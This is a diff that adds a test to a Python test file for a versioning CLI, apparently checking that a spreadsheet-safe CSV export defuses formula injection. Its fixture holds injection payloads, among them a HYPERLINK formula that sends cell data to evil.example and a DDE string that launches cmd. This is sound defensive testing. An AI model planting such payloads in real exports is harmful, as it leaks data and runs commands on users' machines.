@@ -1,5 +1,7 @@
 """The commands of whoever keeps versions, as a user runs them: what they print, how they end, who may run beside them."""
 
+import csv
+import io
 import json
 import shutil
 import subprocess
@@ -148,3 +150,42 @@ def test_forget_and_prune_say_what_went(almanac: Almanac, kb: str) -> None:
     assert "none held it" in almanac("forget", kb, "http://shop/3").stdout
     pruned = almanac("prune", kb, "--json").json
     assert (pruned["versions"], pruned["vectors"]) == ([], 0)
+
+
+FORMULAS = {
+    "http://shop/a": '=HYPERLINK("http://evil.example/?"&A1)',
+    "http://shop/b": "+cmd|' /C calc'!A0",
+    "http://shop/c": "-2+3",
+    "http://shop/d": "@SUM(A1)",
+    "http://shop/e": "\t=1+1",
+    "http://shop/f": "\r=1+1",
+    "http://shop/g": "＝1+1",
+    "http://shop/h": "-12.50",
+    "http://shop/i": 'a = b, "quoted"\n=1+1',
+    "http://shop/j": "plain",
+}
+
+
+def test_a_csv_for_spreadsheets_has_no_formula_and_every_other_export_has_the_exact_text(tmp_path: Path, almanac: Almanac) -> None:
+    data = DataDir(almanac.data)
+    with making.without_children():
+        making.make_version(data, "shop", "v0001", FORMULAS)
+    publish(data.index("shop"), "v0001")
+    declared = tmp_path / "shop.yaml"
+    declared.write_text("name: shop\nsources: [{name: pages, kind: files, glob: '*.md'}]\n")
+    kb = str(declared)
+
+    def cells(what: str, *options: str) -> list[dict[str, str]]:
+        out = tmp_path / "out.csv"
+        assert almanac("export", kb, what, "--format", "csv", "--out", str(out), *options).code == 0
+        return list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
+
+    for what in ("documents", "chunks"):
+        exact, safe = cells(what), cells(what, "--spreadsheet-safe")
+        assert {row["text"] for row in exact} == set(FORMULAS.values())
+        assert not [cell for row in safe for cell in row.values() if cell[:1] in "=+-@\t\r\n＝" and cell not in ("", "-12.50")]
+        assert [{name: cell.removeprefix("'") for name, cell in row.items()} for row in safe] == exact
+        assert [row["text"] for row in safe if row["text"] in ("-12.50", "plain")] == [text for text in FORMULAS.values() if text in ("-12.50", "plain")]
+    for arguments in (["documents"], ["documents", "--format", "jsonl"], ["documents", "--format", "parquet"], ["chroma", "--out", str(tmp_path / "c")]):
+        refused = almanac("export", kb, *arguments, "--spreadsheet-safe")
+        assert (refused.code, "--spreadsheet-safe" in refused.stderr, refused.stdout) == (2, True, "")
